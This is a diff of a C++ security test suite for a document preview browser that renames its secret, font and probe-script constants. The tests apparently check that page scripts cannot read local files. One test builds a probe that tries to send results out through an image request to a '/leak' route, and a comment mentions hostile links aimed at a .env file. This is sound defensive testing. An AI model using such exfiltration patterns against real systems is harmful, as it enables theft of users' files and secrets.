@@ -15,11 +15,11 @@
 
 namespace {
 
-const QByteArray kSecret = "vorn-secret-4711";
-const char kFont[] = "/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf";
+const QByteArray Secret = "vorn-secret-4711";
+const char Font[] = "/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf";
 
 // Script helpers of the probe page; each returns a promise of what its route produced.
-const QByteArray kProbeScript = R"(
+const QByteArray ProbeScript = R"(
 const frameMessages = [], errors = [];
 addEventListener('message', e => frameMessages.push(String(e.data)));
 addEventListener('error', e => errors.push(String(e.message)), true);
@@ -101,20 +101,20 @@ function peer(url, inFrame) {
 class PreviewSecurityTest : public testing::Test {
 protected:
   void SetUp() override {
-    WriteFileBytes(Local("secret.txt"), kSecret);
+    WriteFileBytes(Local("secret.txt"), Secret);
     WritePicture(Local("secret.png"));
     WriteFileBytes(Local("site.css"), "p { color: rgb(7, 8, 9); }");
     WriteFileBytes(Local("app.js"), "window.appRan = 'app ran';");
     WriteFileBytes(Local("module.js"), "window.moduleRan = 'module ran';");
-    QFile::copy(kFont, Local("font.ttf"));
+    QFile::copy(Font, Local("font.ttf"));
     WriteFileBytes(Local("frame.htm"), "<script>parent.postMessage('local frame', '*')</script>");
     WriteFileBytes(Local("page.vnx"),
-                   "<!DOCTYPE html><html><head><title>Probe</title><script>" + kProbeScript +
+                   "<!DOCTYPE html><html><head><title>Probe</title><script>" + ProbeScript +
                        "</script></head><body><p id=p>text</p><a id=link>link</a></body></html>");
     FServer.Serve("/remote.png", "image/png", ReadFileBytes(Local("secret.png")));
     FServer.Serve("/remote.css", "text/css", "p { color: rgb(4, 5, 6); }");
     FServer.Serve("/remote.js", "text/javascript", "window.remoteScript = 'remote ran';");
-    FServer.Serve("/remote.ttf", "font/ttf", ReadFileBytes(kFont));
+    FServer.Serve("/remote.ttf", "font/ttf", ReadFileBytes(Font));
     FServer.Serve("/frame.html", "text/html", "<script>parent.postMessage('remote frame', '*')</script>");
     FServer.Serve("/remote.html", "text/html", "<title>Remote</title>");
   }
@@ -190,7 +190,7 @@ TEST_F(PreviewSecurityTest, APageUsesTheFilesBesideItButItsScriptReadsNone) {
   for (const QString& route : ReadRoutes()) {
     const QString outcome = Attempt(route);
     EXPECT_FALSE(outcome.isEmpty()) << route.toStdString();
-    EXPECT_FALSE(outcome.contains(kSecret)) << route.toStdString();
+    EXPECT_FALSE(outcome.contains(Secret)) << route.toStdString();
     EXPECT_FALSE(outcome.contains("255,0,0")) << route.toStdString();
   }
 }
@@ -217,7 +217,7 @@ TEST_F(PreviewSecurityTest, OnlineRemoteResourcesOfEveryKindLoadAndNothingLocalI
     Attempt(route + ".catch(e => 'refused ' + e).then(v => picture('" + Remote("http", "/leak") +
             "?' + encodeURIComponent(v)).catch(() => v))");
   for (const QByteArray& request : FServer.Requests())
-    EXPECT_FALSE(request.contains(kSecret)) << request.constData();
+    EXPECT_FALSE(request.contains(Secret)) << request.constData();
 
   EXPECT_TRUE(Follow(Remote("http", "/remote.html")));
   EXPECT_EQ(FBrowser.title(), "Remote");
@@ -274,16 +274,16 @@ TEST_F(PreviewSecurityTest, GoingOfflineReloadsALocalPageSoItsOpenConnectionsClo
 
 TEST_F(PreviewSecurityTest, ARemotePageCannotReachLocalFiles) {
   FServer.Serve("/hostile.html", "text/html",
-                "<title>Hostile</title><a id=link>x</a><script>" + kProbeScript + "</script>");
+                "<title>Hostile</title><a id=link>x</a><script>" + ProbeScript + "</script>");
   FBrowser.load(QUrl(Remote("http", "/hostile.html")));
   ASSERT_TRUE(WaitForLoad(FBrowser));
   EXPECT_NE(Attempt("picture('" + LocalUrl("secret.png") + "').then(i => i.naturalWidth)"), "ok: 4");
   EXPECT_NE(
       Attempt("frame('" + LocalUrl("frame.htm") + "').catch(() => '').then(() => frameMessages.join())"),
       "ok: local frame");
-  EXPECT_FALSE(Attempt("text('" + LocalUrl("secret.txt") + "')").contains(kSecret));
+  EXPECT_FALSE(Attempt("text('" + LocalUrl("secret.txt") + "')").contains(Secret));
   EXPECT_FALSE(Follow(LocalUrl("secret.txt")));
-  EXPECT_FALSE(RunScript(FBrowser, "document.documentElement.innerText").toString().contains(kSecret));
+  EXPECT_FALSE(RunScript(FBrowser, "document.documentElement.innerText").toString().contains(Secret));
 }
 
 // Hostile references into the user's files: a link named as a script that leads to a .env
